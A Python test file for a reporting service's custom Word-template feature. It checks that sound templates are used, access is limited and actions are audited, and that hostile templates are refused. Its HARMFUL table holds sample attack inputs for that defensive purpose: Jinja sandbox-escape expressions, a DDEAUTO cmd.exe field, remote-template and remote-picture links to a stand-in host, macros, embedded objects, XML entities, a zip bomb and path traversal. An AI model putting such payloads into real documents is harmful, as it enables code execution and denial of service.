"""A unit's own Word template: what is sound is used for its Word, what could harm is refused in a sentence."""

from __future__ import annotations

from dataclasses import replace
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from sqlmodel import select

from locales.vietnamese import clean_text
from models.codes import Role
from models.tables import Audit
from reports.appendix_template import TEMPLATE
from reports.appendix_word import build_word
from reports.template_check import RefusedTemplate
from reports.template_fill import EXAMPLE, fill
from services.access import NotAllowed, NotFound, Refused
from services.report_closing import close_report
from services.report_documents import from_template
from services.report_templates import (
    MOST_BYTES,
    drop_template,
    keep_template,
    read_template,
    restore_template,
    try_template,
)
from services.template_package import check_package
from services.template_words import template_refusal
from services.unit_reports import closed_documents, draft_documents, preview_report
from tests.reports.examples import FACTS, HOSTILE, lines, screen, with_lines
from tests.reports.reading import parts, word_text
from tests.services.rows import count, opinion, record_counts, record_opinions

BODY = "word/document.xml"
MARK = "{{ signer }}"


def changed(*changes: tuple[str, str], part: str = BODY, more: dict[str, bytes] | None = None) -> bytes:
    """The common template with words of one part replaced, and more parts beside."""
    out = BytesIO()
    with ZipFile(TEMPLATE) as source, ZipFile(out, "w", ZIP_DEFLATED) as into:
        for name in source.namelist():
            data = source.read(name)
            if name == part:
                for old, new in changes:
                    assert old.encode() in data
                    data = data.replace(old.encode(), new.encode(), 1)
            into.writestr(name, data)
        for name, data in (more or {}).items():
            into.writestr(name, data)
    return out.getvalue()


def run(text: str) -> str:
    """A paragraph to put before the body's first."""
    return f"<w:body><w:p>{text}</w:p>"


def field(code: str) -> str:
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (code[:2], code[2:]))
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def relation(kind: str, target: str, mode: str = ' TargetMode="External"') -> tuple[str, str]:
    place = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return (
        "</Relationships>",
        f'<Relationship Id="rId99" Type="{place}/{kind}" Target="{target}"{mode}/></Relationships>',
    )


RELATIONS = "word/_rels/document.xml.rels"


def said(text: str) -> bytes:
    """The common template that fills `text` where the signer stood."""
    return changed((MARK, text))


HARMFUL = {
    "an unknown place": (said("{{ nguoi_ky }} {{ chuc_vu }}"), "chuc_vu, nguoi_ky"),
    "an unknown place of a line": (changed(("{{ line.stt }}", "{{ line.ma }}")), "ma"),
    "a hidden name": (said("{{ signer.__class__.__mro__ }}"), "__mro__"),
    "a hidden name as a word": (said("{{ signer['__class__'] }}"), "__class__"),
    "a hidden name by a filter": (said("{{ signer|attr('__class__') }}"), "attr"),
    "a call": (said("{{ signer.format(1) }}"), "call"),
    "a huge range": (said("{% for i in range(999999999) %}{% endfor %}"), "call"),
    "a huge sum": (said("{{ 9 ** 999999999 }}"), "pow"),
    "a huge text": (said("{{ 'a' * 999999999 }}"), "mul"),
    "markup by a filter": (said("{{ signer|striptags|safe }}"), "s"),
    "another template": (said("{% include 'x' %}"), "include"),
    "a macro": (said("{% macro m() %}{% endmacro %}"), "macro"),
    "a mark left open": (said("{% if signer %}"), ""),
    "loops in loops": (
        said("{% for a in lines %}" * 40 + "x" + "{% endfor %}" * 40),
        "",
    ),
    "no lines": (
        changed(
            ("{%tr for line in lines %}", "{%tr for line in units %}"), ("{%p if lines %}", "{%p if units %}")
        ),
        "lines",
    ),
    "a DDE field": (changed(("<w:body>", run(field("DDEAUTO c:\\\\cmd.exe")))), "DDEAUTO"),
    "a DDE field in one": (changed(("<w:body>", run('<w:fldSimple w:instr="DDE a b"/>'))), "DDE"),
    "a picture from the net": (
        changed(("<w:body>", run(field('INCLUDEPICTURE "http://a/b.png"')))),
        "INCLUDEPICTURE",
    ),
    "people's words as a field": (changed(("<w:body>", run(field("HYPERLINK {{ signer }}")))), "HYPERLINK"),
    "a remote picture": (changed(relation("image", "http://a.example/x.png"), part=RELATIONS), "a.example"),
    "a remote template": (
        changed(relation("attachedTemplate", "http://a.example/x.dotm"), part=RELATIONS),
        "attachedtemplate",
    ),
    "an object": (changed(relation("oleObject", "x.bin", ""), part=RELATIONS), "oleobject"),
    "an embedded file": (changed(more={"word/embeddings/x.bin": b"x"}), "object"),
    "macros": (changed(more={"word/vbaProject.bin": b"x"}), ""),
    "entities": (
        changed(("<w:document", '<!DOCTYPE a [<!ENTITY b "c">]><w:document')),
        "",
    ),
    "a bomb": (changed(more={"word/media/a.xml": b" " * 300_000_000}), ""),
    "a path upwards": (changed(more={"../x.xml": b"<a/>"}), ""),
    "no Word document": (b"%PDF-1.7", ".docx"),
    "nothing": (b"", ".docx"),
    "half of one": (TEMPLATE.read_bytes()[:3000], ""),
}


# Those that must meet the limits of a process, or that show that it stands.
CONFINED = ("loops in loops", "a bomb", "a hidden name")


def check_sentence(sentence: str, named: str) -> None:
    assert named in sentence
    assert "%(" not in sentence
    assert len(sentence.split()) >= 6


def checked_and_filled(data: bytes) -> bytes:
    check_package(data)
    return fill(data, EXAMPLE, {})


@pytest.mark.parametrize("name", [name for name in HARMFUL if name not in CONFINED])
def test_what_could_harm_or_mislead_is_refused_and_the_sentence_names_it(name: str) -> None:
    data, named = HARMFUL[name]
    with pytest.raises(RefusedTemplate) as refused:
        checked_and_filled(data)
    check_sentence(str(template_refusal(refused.value.code, refused.value.values)), named)


@pytest.mark.parametrize("name", CONFINED)
def test_the_limited_process_refuses_what_would_take_the_server_along(name: str) -> None:
    data, named = HARMFUL[name]
    with pytest.raises(Refused) as refused:
        from_template(data, None, {})
    check_sentence(str(refused.value), named)


def test_the_common_template_is_a_sound_one_and_gives_the_common_document() -> None:
    picture, data = screen(1)
    facts = with_lines(FACTS, (replace(lines(1)[0], pictures=(picture,)), *lines(3)))
    document, text = from_template(TEMPLATE.read_bytes(), facts, {picture.sha256: data})
    assert parts(document) == parts(build_word(facts, {picture.sha256: data}))
    assert "Phụ lục 2" in text


@pytest.fixture
def told(session, pilot, tree, now):
    record_counts(session, [count(2, "PA", 5), count(3, "PA1", 4)], pilot=pilot, now=now)
    opinions = [opinion(n, clean_text(text), second=n, unit_code="PA") for n, text in enumerate(HOSTILE, 2)]
    record_opinions(session, opinions, pilot=pilot, now=now)
    return tree


def test_a_units_template_makes_its_word_until_it_is_dropped(
    told, session, pilot, now, operator, store, reporter_of, person_of
):
    reporter = reporter_of(told["PA"])
    facts = preview_report(session, reporter, pilot, "PA", now=now).facts
    own = changed(("Nơi nhận:", "Kính gửi nơi nhận:"))
    checked = try_template(reporter, facts, own, store)
    assert "Kính gửi nơi nhận:" in checked.text
    common = draft_documents(session, reporter, pilot, "PA", store, ("docx",), now=now).files["docx"]
    keep_template(session, reporter, pilot, "PA", store, name="..\\a/mẫu.docx", checked=checked, now=now)
    kept = read_template(session, reporter, pilot, "PA")
    assert (kept.name, kept.size, kept.uploaded_by) == ("mẫu.docx", len(own), reporter.name)
    mine = draft_documents(session, reporter, pilot, "PA", store, ("docx",), now=now).files["docx"]
    assert mine == checked.document
    assert "Kính gửi nơi nhận:" in word_text(mine)
    below = draft_documents(session, reporter, pilot, "PA1", store, ("docx",), now=now).files["docx"]
    assert "Kính gửi nơi nhận:" not in word_text(below)
    close_report(session, reporter, pilot, "PA", store, now=now, explain="Đã rà soát.")
    closed = closed_documents(session, operator, pilot, "PA", 1, store).files["docx"]
    assert "Kính gửi nơi nhận:" in word_text(closed)
    drop_template(session, reporter, pilot, "PA", now=now)
    assert draft_documents(session, reporter, pilot, "PA", store, ("docx",), now=now).files["docx"] == common
    restore_template(session, reporter, pilot, "PA", kept, now=now)
    assert read_template(session, reporter, pilot, "PA") == kept
    with pytest.raises(Refused):
        restore_template(session, reporter, pilot, "PA", kept, now=now)
    record = session.exec(select(Audit).order_by(Audit.id))
    acts = [a.act for a in record if a.subject == "report_template"]
    assert acts == ["keep report template", "drop report template", "keep report template"]
    other = reporter_of(told["PP"])
    for act in (
        lambda: read_template(session, other, pilot, "PA"),
        lambda: drop_template(session, other, pilot, "PA", now=now),
        lambda: keep_template(session, other, pilot, "PA", store, name="a", checked=checked, now=now),
    ):
        with pytest.raises(NotFound):
            act()
    with pytest.raises(NotAllowed):
        try_template(person_of(Role.LEADER, told["PA"]), facts, own, store)
    with pytest.raises(Refused):
        try_template(reporter, facts, b"PK" + b"x" * MOST_BYTES, store)
